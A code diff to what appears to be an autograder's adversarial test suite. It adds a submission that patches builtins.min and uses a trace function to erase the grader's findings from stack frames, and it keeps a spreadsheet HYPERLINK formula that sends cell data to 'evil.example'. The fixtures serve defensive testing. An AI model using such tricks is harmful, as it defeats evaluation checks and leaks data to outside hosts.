@@ -377,12 +377,28 @@ def _attacks(paths: dict[str, Path], port: int, unix: Path) -> dict[str, tuple[s
             "import json\nget_ipython().kernel.session.pack = (lambda o: json.dumps(o, default=str)"
             ".replace('builtins.min', '\\\\ud800').encode())\nn_distinct = 7",
             "def double(xs):\n    import builtins\n    builtins.min = max\n    return [2 * x for x in xs]"),
+        # round 22: a trace function, set during the test, empties the check's findings in its frames
+        "mallory_trace": (stub1, TRACER),
         # an exception class named like a spreadsheet formula ends up in the reason
         "mallory_csv": (stub1, "def double(xs):\n    raise type(" + repr(FORMULA) + ", (Exception,), {})()"),
     }
 
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click here")'
+TRACER = """def double(xs):
+    import builtins, sys
+    builtins.min = max
+    def tracer(frame, event, arg):
+        f = frame
+        while f is not None:
+            if f.f_code.co_name in ("changed", "put_back_first", "do_execute"):
+                for name in ("out", "patched"):
+                    if type(f.f_locals.get(name)) is list:
+                        f.f_locals[name].clear()
+            f = f.f_back
+        return tracer
+    sys.settrace(tracer)
+    return [2 * x for x in xs]"""
 FORGE_SEND = """from jupyter_client.session import Session
 _send = Session.send
 def _forged(self, stream, msg_or_type, content=None, *args, **kwargs):
@@ -671,6 +687,8 @@ EXPECTED = {
     "mallory_codeswap": ((0, "AssertionError: 0 is not the number of distinct numbers in values"),
                          (0, "AssertionError: double([1, 2, 3]) gave [0], expected [2, 4, 6]")),
     "mallory_pack": ((1, ""), (0, "the test passed only with builtins.min patched while it ran: not counted")),
+    "mallory_trace": ((0, NOT_ANSWERED_1), (0, "the test passed only with a trace or profile function, builtins.min "
+                                               "patched while it ran: not counted")),
     # submissions that are not one regular file in the student's own folder: never opened
     "mallory_link_teacher": 2 * ((0, "submission is a symbolic link: it is not followed"),),
     "mallory_link_alice": 2 * ((0, "submission is a symbolic link: it is not followed"),),
